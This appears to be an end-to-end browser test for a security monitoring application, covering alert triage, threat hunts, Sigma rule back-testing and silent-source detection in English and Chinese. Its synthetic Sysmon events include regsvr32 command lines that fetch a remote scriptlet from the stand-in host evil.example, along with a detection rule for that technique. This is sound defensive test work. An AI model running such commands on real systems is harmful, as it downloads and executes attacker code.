"""The analyst's path: an attack data set comes in, is triaged; a new rule is tried on the past, switched on, and fires on
the next batch; a hunt, a query; the source that went silent is found. In both languages, with the browser."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

import bastide
from bastide.base import terms
from bastide.base.jobs import work
from bastide.base.people.models import Account, Organisation
from bastide.monitor import flows
from bastide.monitor.models import Alert, Batch, Hunt, RuleRecord, Source
from tests.browser.conftest import Visitor
from tests.monitor.makers import RULE, make_alert, make_source

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]
CONTENT = Path(bastide.__file__).parent / "content" / "sigma"
NEW = """title: Regsvr32 fetches a script
status: experimental
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: \\regsvr32.exe
    CommandLine|contains: '/i:'
  condition: selection
level: high
tags: [attack.t1218.010]
"""
SILENT = {"zh-hans": "来源中断", "en": "Source went silent"}


def attack(host: str, command: str, when: str) -> dict[str, Any]:
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Computer": host, "SystemTime": when,
        "Image": r"C:\Windows\System32\regsvr32.exe", "CommandLine": command,
    }  # fmt: skip


@pytest.fixture
def ground(telco: Organisation, tmp_path: Path, settings: Any) -> Source:
    settings.BASTIDE_HOME = tmp_path / "home"
    rule = tmp_path / "whoami.yml"
    rule.write_text(RULE)
    flows.add_rules([rule], by=Account.objects.house(), at=terms.now())
    return make_source(telco, name="edge-a", silent_after=60)


def done() -> None:
    """What waits in the background is carried out."""
    while work.work_once(terms.now()):
        pass


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_the_analysts_path(
    visitor: Visitor,
    accessible: Callable[..., None],
    shoot: Callable[[Page, str], Path],
    ground: Source,
    analyst: Account,
    telco: Organisation,
    other_telco: Organisation,
    tmp_path: Path,
    language: str,
) -> None:
    silent_words, now = SILENT[language], terms.now()

    def path_of(events: list[dict[str, Any]], name: str) -> str:
        path = tmp_path / name
        path.write_text("\n".join(json.dumps(event) for event in events))
        return str(path)

    def look(page: Page, name: str) -> None:
        accessible(page)
        shoot(page, f"analyst-{name}-{language}")

    def hand_in(page: Page, file: str) -> Batch:
        page.goto(f"{page.url.split('/monitor')[0]}/monitor/batches/new/")
        page.select_option("[name=source]", "edge-a")
        page.set_input_files("[name=file]", file)
        page.click("main button[type=submit]")
        page.wait_for_url("**/monitor/batches/BAT-*/")
        done()
        return Batch.objects.latest("pk")

    # 1. The data set comes in by hand and the rule in force raises an alert.
    when = (now - timedelta(hours=3)).isoformat()
    whoami = {**attack("WS1", "whoami /all", when), "Image": r"C:\Windows\System32\whoami.exe"}
    fetches = [
        attack(f"WS{n % 3}", f"regsvr32 /s /u /i:http://evil.example/{n}.sct scrobj.dll", when) for n in range(9)
    ]
    page = visitor(analyst, "/monitor/alerts/", language=language)
    batch = hand_in(page, path_of([whoami, *fetches, attack("WS7", "regsvr32 /s a.dll", when)], "attack.ndjson"))
    assert (batch.accepted, batch.matches) == (11, 1)

    # 2. Triage.
    alert = Alert.objects.get()
    page.goto(page.url.split("/monitor")[0] + alert.get_absolute_url())
    page.click("a[href$='/acts/triage/']")
    page.click("main button[type=submit]")
    page.wait_for_url(f"**{alert.get_absolute_url()}")

    # 3. A hunt over the events themselves.
    page.goto(page.url.split("/monitor")[0] + "/monitor/hunts/new/")
    look(page, "hunt-new")
    page.fill("[name=name]", "scrobj")
    page.fill("[name=text]", "CommandLine|contains: scrobj")
    page.click("main button[type=submit]")
    page.wait_for_url("**/monitor/hunts/HNT-*/")
    done()
    expect(page.locator(".tile .figure").first).to_have_text("9")
    look(page, "hunt")
    assert Hunt.objects.get().result["hosts"] == 3

    # 4. A rule of it: written, tried on the past.
    page.goto(page.url.split("/monitor")[0] + "/monitor/rules/new/")
    look(page, "rule-new")
    page.fill("[name=text]", NEW.replace("title:", "title"))
    page.click("main button[type=submit]")
    expect(page.locator(".invalid-feedback, .field-error, [role=alert]").first).to_be_visible()
    page.fill("[name=text]", NEW)
    page.click("main button[type=submit]")
    page.wait_for_url(re.compile(r"/monitor/rules/\d+/$"))
    rule = RuleRecord.objects.latest("pk")
    assert not rule.is_enabled
    page.click("a[href$='/test/']")
    page.click("main button[type=submit]")
    page.wait_for_url("**/monitor/hunts/HNT-*/")
    done()
    expect(page.locator(".tile .figure").first).to_have_text("9")
    look(page, "back-test")

    # 5. Switched on; the next batch raises alerts.
    page.click("a[href$='/switch/']")
    page.fill("[name=reason]", "nine true matches, none false")
    page.click("main button[type=submit]")
    page.wait_for_url(f"**{rule.get_absolute_url()}")
    look(page, "rule")
    hand_in(page, path_of([attack("WS9", "regsvr32 /i:http://evil.example/x.sct scrobj.dll", when)], "next.ndjson"))
    assert Alert.objects.get(rule=rule).host == "WS9"

    # 6. SQL over the same events.
    page.goto(page.url.split("/monitor")[0] + "/monitor/query/")
    page.fill("[name=query]", "SELECT host, count(*) AS n FROM events GROUP BY host ORDER BY n DESC, host")
    page.click("main button[type=submit]")
    expect(page.locator("#answer tbody tr")).to_have_count(5)
    look(page, "query")

    # 7. The source went silent, and an alert says so.
    page.goto("about:blank")
    Source.objects.update(last_batch_at=terms.now() - timedelta(hours=2))
    flows.watch_silence(by=Account.objects.house(), at=terms.now())
    page = visitor(analyst, "/monitor/alerts/?open=yes", language=language)
    page.get_by_role("cell", name=silent_words).first.wait_for()
    silent = Alert.objects.get(rule__kind="watch")
    page.goto(page.url.split("/monitor")[0] + silent.get_absolute_url())
    expect(page.locator("h1")).to_contain_text(silent_words)
    look(page, "silent")

    # 8. What the rules cover, and what happens at several operators.
    page.goto("about:blank")
    flows.add_rules([CONTENT], by=Account.objects.house(), at=terms.now())
    make_alert(telco, rule=rule, last_seen=terms.now())
    make_alert(other_telco, rule=rule, last_seen=terms.now())
    page = visitor(analyst, "/monitor/coverage/", language=language)
    look(page, "coverage")
    page.goto(page.url.split("/monitor")[0] + "/monitor/across/")
    expect(page.locator("main tbody tr")).to_have_count(1)
    look(page, "across")
